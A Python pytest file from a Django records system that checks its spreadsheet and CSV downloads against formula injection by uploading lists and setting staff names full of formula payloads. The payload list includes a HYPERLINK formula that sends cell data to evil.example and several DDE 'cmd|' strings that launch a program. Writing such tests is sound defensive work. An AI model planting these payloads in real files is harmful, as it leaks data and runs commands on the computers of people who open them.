"""The sender of a list writes formulas where names belong; an officer opens the download in a spreadsheet (P21)."""

from __future__ import annotations

import csv
import io
import itertools

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tests.attacks.conftest import client_of
from tests.test_access_matrix import EVERYBODY, addresses, expected, url_of, world

from moei.casefile.tests.cast import say_why
from moei.desks.arrivals.models import ListImport
from moei.desks.arrivals.tests.workbooks import workbook

__all__ = ["world"]
pytestmark = pytest.mark.django_db
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Error")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
)
SPLITS = '";=1+1'  # would begin a cell of its own if quotes were not doubled
# Sent to every form; those that make a file take what they need.
ANSWERS = {"why": "review", "reference": "-1", "note": FORMULAS[1], "sheets": "2"}
# Would end the walk of whoever they are about.
ENDS = ("close_account", "password", "end_role", "logout")


def dangerous(text: str) -> bool:
    """What a spreadsheet takes for a formula; some cut spaces and marks that nobody sees."""
    return text.lstrip(" \u00a0\u200b\u200c\u200d\ufeff").startswith(BEGINS)


def cells(response) -> list[str]:
    """The words in the cells of a download that is a table, of whatever kind; nothing of any other."""
    kind = response.headers.get("Content-Type", "")
    content = b"".join(response) if response.streaming else response.content
    if "spreadsheet" in kind:
        found = []
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for cell in itertools.chain.from_iterable(sheet.iter_rows()):
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                found.append(cell.value)
        return [value for value in found if isinstance(value, str)]
    if "csv" in kind:
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    return []


@pytest.fixture
def poisoned(world, anong):
    """Lists whose every cell, name and sender is a formula, and staff whose names are."""
    rows = [
        (number, formula, "M", f"=1+{number}", "Ethiopia", formula)
        for number, formula in enumerate((*FORMULAS, SPLITS), start=1)
    ]
    client = client_of(anong)
    for formula in FORMULAS[:4]:
        name = f"{formula.replace('/', '_')}.xlsx"
        data = workbook([*rows, (99, "", "", "", "", "")], title=formula)
        client.post(reverse("arrivals:upload"), {"file": SimpleUploadedFile(name, data), "sender": formula})
    for staff, formula in zip(world.staff.values(), itertools.cycle((*FORMULAS, SPLITS)), strict=False):
        staff.name = formula
        staff.save(update_fields=["name"])
    world.values["import_id"] = ListImport.objects.latest("uploaded_at").pk
    return world


def downloads(world):
    """(address, answer) of every file that leaves, each taken by the first who may; opened, then by sending its form."""
    clients = {}
    for method in ("get", "post"):
        for address in addresses():
            if address.rule is None or (method == "post" and address.name.endswith(ENDS)):
                continue
            may = [
                who
                for who, roles in EVERYBODY.items()
                if expected(roles, address.rule, theirs=True) == "allowed"
            ]
            if not may:
                continue
            if may[0] not in clients:
                clients[may[0]] = client_of(world.staff[may[0]])
                say_why(clients[may[0]])
            data = ANSWERS if method == "post" else {}
            response = getattr(clients[may[0]], method)(url_of(address, world, theirs=True), data)
            if "Content-Disposition" in response.headers:
                yield address.name, response


def test_p21_no_cell_of_any_download_is_a_formula_and_no_name_of_a_file_is_from_outside(poisoned):
    seen: dict[str, list[str]] = {}
    for name, response in downloads(poisoned):
        disposition = response.headers["Content-Disposition"]
        for bad in ("\r", "\n", "cmd|", "HYPERLINK", ".."):
            assert bad not in disposition, name
        seen.setdefault(name, []).extend(cells(response))
    assert [(name, text) for name, found in seen.items() for text in found if dangerous(text)] == []
    # The tables that leave today do hold what was written; a new one is walked by itself.
    for name in ("arrivals:problems", "web:export_journal"):
        assert any("HYPERLINK" in text for text in seen[name]), name
        assert len(seen[name]) > 20


@pytest.mark.parametrize("text", FORMULAS)
def test_the_reader_of_cells_takes_each_for_a_formula(text):
    assert dangerous(text) and not dangerous(f"'{text}")
